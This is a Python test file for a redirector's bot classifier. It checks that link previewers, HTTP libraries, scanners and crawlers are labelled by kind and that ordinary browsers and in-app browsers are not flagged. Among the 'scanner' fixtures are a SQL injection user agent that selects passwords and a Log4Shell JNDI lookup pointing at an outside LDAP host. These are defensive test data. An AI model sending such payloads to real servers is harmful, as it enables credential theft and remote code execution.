"""The bot verdict: programs are flagged with the kind of program, people never are."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from redirector.bots import bot_reason_for

CHROME_ON_LINUX = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
CHROME_ON_ANDROID = (
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36"
)
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"

BOTS = {
    "no header": ("", "empty"),
    "blanks": (" \t ", "empty"),
    "a dash for nothing": ("-", "empty"),
    "WhatsApp fetching a link card": ("WhatsApp/2.24.13.77 A", "preview"),
    "Facebook fetching a link card": (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "preview",
    ),
    "iMessage posing as three previewers at once": (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
        "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        "preview",
    ),
    "X": ("Twitterbot/1.0", "preview"),
    "Slack unfurling": ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "preview"),
    "Telegram": ("TelegramBot (like TwitterBot)", "preview"),
    "Discord": ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "preview"),
    "LinkedIn": ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", "preview"),
    "Skype and Teams": ("Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5", "preview"),
    "Google Messages": (
        f"{CHROME_ON_LINUX} Google-PageRenderer Google (+https://developers.google.com/+/web/snippet/)",
        "preview",
    ),
    "a Mastodon server": ("http.rb/5.1.1 (Mastodon/4.2.1; +https://social.example/)", "preview"),
    "a previewer nobody has heard of": ("AcmeChat-LinkPreview/3.0", "preview"),
    "curl": ("curl/8.5.0", "library"),
    "wget": ("Wget/1.21.4", "library"),
    "requests": ("python-requests/2.32.3", "library"),
    "urllib": ("Python-urllib/3.11", "library"),
    "Go": ("Go-http-client/2.0", "library"),
    "OkHttp": ("okhttp/4.12.0", "library"),
    "Java": ("Java/17.0.9", "library"),
    "axios": ("axios/1.7.2", "library"),
    "node-fetch": ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "library"),
    "Perl": ("libwww-perl/6.67", "library"),
    "a client nobody has heard of": ("acme-rest-sdk/0.3", "library"),
    "an app's own HTTP client": ("Shop/4.1 (com.example.shop; build:88; iOS 17.5.0)", "library"),
    "Chrome without a screen": (CHROME_ON_LINUX.replace("Chrome/", "HeadlessChrome/"), "library"),
    "Chrome driven by Playwright": (f"{CHROME_ON_LINUX} Playwright/1.44.0", "library"),
    "PhantomJS": (
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
        "library",
    ),
    "uptime monitor": ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "scanner"),
    "status checker": ("StatusCake_Pagespeed_Indev", "scanner"),
    "page speed test": (f"{CHROME_ON_ANDROID} Chrome-Lighthouse", "scanner"),
    "link checker": ("LinkChecker/10.2 (+https://linkchecker.github.io/linkchecker/)", "scanner"),
    "mail gateway": ("Barracuda Sentinel (EE)", "scanner"),
    "vulnerability scanner": ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "scanner"),
    "port scanner": ("Mozilla/5.0 zgrab/0.x", "scanner"),
    "SQL injection": ("Mozilla/5.0' UNION SELECT password FROM users--", "scanner"),
    "log4j lookup": ("${jndi:ldap://198.51.100.7/a}", "scanner"),
    "a security scanner nobody has heard of": (
        "Mozilla/5.0 (compatible; Acme Security Scan; +https://acme.example)",
        "scanner",
    ),
    "Googlebot as a phone": (f"{CHROME_ON_ANDROID} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "ua"),
    "Bing": ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "ua"),
    "an AI crawler": (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "ua",
    ),
    "a feed reader": ("Feedbin feed-id:12 - 4 subscribers", "ua"),
    "an archiver": ("Mozilla/5.0 (compatible; special_archiver/3.1.1)", "ua"),
    "a crawler without an address": ("Mozilla/5.0 (compatible; Acme-Crawl)", "ua"),
    "an address and nothing else": (f"{CHROME_ON_LINUX} (https://acme.example/about)", "ua"),
    "a mailbox": ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) webmaster@acme.example", "ua"),
    "unknown name with a version": ("Acme/1.0", "ua"),
    "no platform at all": ("Mozilla/5.0", "ua"),
    "something before the browser": (f"Acme/1.0 {CHROME_ON_LINUX}", "ua"),
    "Chrome driven by something": (f"{CHROME_ON_LINUX} Acme/2.0", "ua"),
    "forged WeChat with a blank lost": (
        CHROME_ON_ANDROID.replace("Chrome/126.0.0.0", "Chrome/126.0.0.0MQQBrowser/6.2"),
        "ua",
    ),
}

PEOPLE = {
    "iPhone": f"{IPHONE} Version/17.5 Safari/604.1".replace("Mobile/15E148 Version/17.5", "Version/17.5 Mobile/15E148"),
    "Android": CHROME_ON_ANDROID,
    "desktop Linux": CHROME_ON_LINUX,
    "Edge": f"{CHROME_ON_LINUX} Edg/126.0.0.0".replace("X11; Linux x86_64", "Windows NT 10.0; Win64; x64"),
    "a rebuilt Chromium": f"{CHROME_ON_LINUX} Acme/126.0.6478.57",
    "Firefox": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "old Internet Explorer": "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 3.5.30729)",
    "Konqueror": "Mozilla/5.0 (compatible; Konqueror/4.14; Linux) KHTML/4.14.2 (like Gecko)",
    "Instagram, a build id that a crawler list flags": (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 Instagram 340.0.0.22.109 Android"
    ),
    "Facebook": f"{IPHONE} [FBAN/FBIOS;FBAV/470.1.0.46.107;FBBV/618;FBDV/iPhone14,5;FBMD/iPhone;FBSV/17.5]",
    "WhatsApp": f"{IPHONE} WhatsApp/2.24.13",
    "Google app": f"{IPHONE.replace('Mobile/15E148', 'GSA/320.0.645 Mobile/15E148')} Safari/604.1",
    "Snapchat": f"{IPHONE} Snapchat/12.90.0.40 (like Safari/604.1, panda)",
    "a QR scanner app": f"{IPHONE} QRScanner/3.1",
    "a document scanner app": f"{CHROME_ON_ANDROID} CamScanner/6.60.0.2406",
    "a managed browser": f"{IPHONE} Safari/605.1.15 (AirWatch Browser v24.06)",
    "a Cubot phone": CHROME_ON_ANDROID.replace("10; K", "13; CUBOT KINGKONG 9"),
    "a Tecno phone": CHROME_ON_ANDROID.replace("10; K", "13; TECNO BG6"),
    "Ecosia with its own version address": f"{CHROME_ON_ANDROID} (Ecosia android@126.0.0.0)",
    "feature phone": "Nokia6300/2.0 (04.20) Profile/MIDP-2.0 Configuration/CLDC-1.1 UNTRUSTED/1.0",
    "Opera Mini": "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80/191.308; U; en) Presto/2.5.25 Version/10.54",
    "KaiOS": "Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
    "text browser, which names a library": "Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.2",
    "television": "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0 Safari/537.36",
    "an app's page on an iPhone": "Acme/12 CFNetwork/1496.0.7 Darwin/23.5.0",
    "an app's page on Android": "Dalvik/2.1.0 (Linux; U; Android 13; SM-A546B Build/TP1A.220624.014)",
    "embedded Internet Explorer, which carries its maker's address": (
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; EmbeddedWB 14.52 from: http://www.bsalsa.com/)"
    ),
}


@pytest.mark.parametrize(("user_agent", "reason"), BOTS.values(), ids=BOTS)
def test_programs_are_flagged_with_their_kind(user_agent: str, reason: str) -> None:
    assert bot_reason_for(user_agent) == reason


@pytest.mark.parametrize("user_agent", PEOPLE.values(), ids=PEOPLE)
def test_people_are_not_flagged(user_agent: str) -> None:
    assert bot_reason_for(user_agent) is None


@given(
    st.sampled_from(["Acmebot/1.0", "AcmeBot", "acme-crawler", "+https://acme.example/bot"]),
    st.sampled_from(list(PEOPLE.values())),
)
def test_a_self_declared_bot_is_flagged_behind_any_browser(name: str, browser: str) -> None:
    assert bot_reason_for(f"{browser} (compatible; {name})") is not None


@given(st.text(max_size=300))
def test_any_header_gets_a_known_verdict(user_agent: str) -> None:
    assert bot_reason_for(user_agent) in {None, "ua", "preview", "library", "scanner", "empty"}
